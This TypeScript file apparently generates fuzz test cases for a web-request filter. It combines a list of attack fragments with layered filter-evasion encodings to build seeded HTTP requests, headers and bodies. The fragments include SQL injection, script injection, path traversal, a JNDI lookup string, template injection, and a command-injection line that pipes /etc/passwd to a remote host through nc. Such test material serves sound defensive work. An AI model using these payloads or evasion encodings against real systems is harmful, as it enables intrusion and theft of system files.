import fc from 'fast-check';

import type { Case } from './answers.ts';

/** Pieces of attacks, and characters on which languages differ. */
const ATTACKS = [
  "' or 1=1--",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '; cat /etc/passwd|nc 10.0.0.1 80',
  '${jndi:ldap://a.example/x}',
  '{{7*7}}',
  'un/**/ion/*!50000select*/1',
  'cat${IFS}/etc/pas"s"wd',
  "'jav'+'ascript'",
  'https://shop.example/a',
  '//evil.example\\@10.0.0.1:80',
  'SeLeCt',
  'aAaAaAaAaAa',
  'https://b.shop.co.uk/?c',
  'hello, world',
  '0123456789abcdef0',
  '123e4567-e89b-12d3-a456-426614174000',
];
const CHARACTERS = [
  ...'\0\t\n\v\f\r\x1b\x1c\x1f\x7f\x85\xa0\xa4\xaa\xb5\xb2\xe9\u0130\u0131\u017f\u0301\u0660\u1e9e',
  ...'\u2028\u200d\u2044\u212a\u3000\ud800\udc00\ufeff\uff1c\uff27\uff41\uffff😀𝒶',
  ...'%&\\+=;:#?/._-"\'`^*(){}[]<>|$@!~, ',
  ...[
    '%C0%AE',
    '%u',
    '%zz',
    '&#',
    '&lt',
    '\\u',
    '\\x',
    '/*',
    '*/',
    '/*!',
    '%EF%BB%BF',
    '%c0%2e',
    '\xc0%qF',
    '%Bg%9v',
    '0x2e',
    '0x5C4',
    '%%32%%65',
    '\u2215',
    '\ufe64',
    '%ED%A0%80',
  ],
  ...[
    '\xc0\xaf',
    '\xe0\x80\xae',
    '\xf0\x80\x81\xbf',
    '\xf8\x80\x80\x80\xaf',
    'Zm9v',
    '====',
    '--b',
  ],
];

const hex = (text: string) =>
  [...Buffer.from(text)].map((byte) => byte.toString(16).padStart(2, '0'));
const units = (text: string, spell: (code: number) => string) =>
  Array.from({ length: text.length }, (_, at) => spell(text.charCodeAt(at))).join('');
const overlong = (code: number) =>
  code < 128 ? `%${(0xc0 | (code >> 6)).toString(16)}%${(0x80 | (code & 63)).toString(16)}` : '%';

/** Ways to write a text so that it still arrives; the first is no change. */
const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) =>
    hex(text)
      .map((pair) => `%${pair}`)
      .join(''),
  (text) =>
    hex(text)
      .map((pair) => `%25${pair.toUpperCase()}`)
      .join(''),
  (text) => units(text, (code) => `%u${code.toString(16).padStart(4, '0')}`),
  (text) => units(text, (code) => `&#${code};`),
  (text) => units(text, (code) => `&#x${code.toString(16)}`),
  (text) => text.replaceAll('<', '&LT;').replaceAll("'", '&apos').replaceAll('/', '&sol;'),
  (text) => units(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => units(text, (code) => `\\x${(code & 255).toString(16).padStart(2, '0')}`),
  (text) => units(text, (code) => `\\${(code & 255).toString(8).padStart(3, '0')}`),
  (text) => units(text, overlong),
  (text) =>
    units(text, (code) => String.fromCharCode(code > 32 && code < 127 ? code + 0xfee0 : code)),
  (text) => Buffer.from(text).toString('base64'),
  (text) => Buffer.from(`>>> ${text} ???`).toString('base64url'),
  (text) => Buffer.from(text, 'latin1').toString('base64').slice(0, -1),
  (text) => Array.from(text).join('/**/'),
  (text) => text.toUpperCase(),
  (text) => text.slice(0, 9).repeat(70),
  (text) => text.padEnd(512, ' ab<'),
];

const texts = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...ATTACKS) },
  {
    weight: 3,
    arbitrary: fc
      .array(fc.constantFrom(...CHARACTERS), { maxLength: 12 })
      .map((all) => all.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.base64String({ minLength: 12, maxLength: 80 }) },
  { weight: 1, arbitrary: fc.json({ maxDepth: 3 }) },
);
const layers = fc.array(fc.constantFrom(...ENCODINGS), { minLength: 1, maxLength: 3 });
const piece = fc
  .tuple(texts, layers)
  .map(([text, some]) => some.reduce((all, layer) => layer(all), text));
const value = fc
  .array(piece, { minLength: 1, maxLength: 4 })
  .map((pieces) => pieces.join('').slice(0, 3000));

const name = fc.oneof(
  fc.constantFrom('q', 'url', 'redirect_uri', 'next', 'User-Agent', 'x-id', '__proto__', 'ſ', 'É'),
  texts,
);
const target = fc
  .tuple(
    fc.constantFrom('/', '/a/b', 'https://shop.example/', '//x', ''),
    fc.array(fc.tuple(name, value), { maxLength: 3 }),
  )
  .map(([path, pairs]) => `${path}?${pairs.map((pair) => pair.join('=')).join('&')}`);
const headers = fc.dictionary(
  fc.oneof(
    fc.constantFrom('Host', 'Cookie', 'Referer', 'Content-Type', 'Origin', 'Accept-Encoding'),
    name,
  ),
  fc.oneof(
    value,
    fc.constantFrom(
      'shop.example',
      'a.shop.co.uk:8080',
      '10.0.0.1',
      'multipart/form-data; boundary=b',
      'application/json',
    ),
    fc.array(value, { maxLength: 2 }),
  ),
  { maxKeys: 4 },
);
const body = fc.oneof(
  value,
  fc.tuple(name, value).map((pair) => pair.join('=')),
  fc.dictionary(name, value, { maxKeys: 3 }).map((object) => JSON.stringify(object)),
  value.map(
    (text) =>
      `--b\r\nContent-Disposition: form-data; name="${text}"; filename="a"\r\n\r\n${text}\r\n--b--`,
  ),
);
const request = fc.record({
  method: fc.constantFrom('GET', 'POST', "G'"),
  url: target,
  headers,
  body,
});
const asText = request.map(
  ({ method, url, headers: all, body: last }) =>
    `${method} ${url} HTTP/1.1\r\n${Object.entries(all)
      .flatMap(([key, some]) => [some].flat().map((one) => `${key}: ${one}\r\n`))
      .join('')}\r\n${last}`,
);
const kind = fc.constantFrom(
  'path',
  'query',
  'query_name',
  'form',
  'json',
  'cookie',
  'referer',
  'header',
  'body',
  'text',
  '\ud800é',
);
const parts = fc.array(
  fc.record({ kind, name: fc.oneof(fc.constant('host'), name), text: value }),
  { maxLength: 4 },
);

const cases: fc.Arbitrary<Case> = fc.oneof(
  fc.oneof(value, target, asText).map((instance) => ({ instance })),
  parts.map((all) => ({ instance: { parts: all } })),
  request.map((one) => ({ request: one })),
);

/** Odd payloads, requests and parts: the same for the same seed. */
export const oddCases = (count: number, seed: number): Case[] =>
  // Through JSON once, as every case arrives.
  JSON.parse(JSON.stringify(fc.sample(cases, { numRuns: count, seed }))) as Case[];
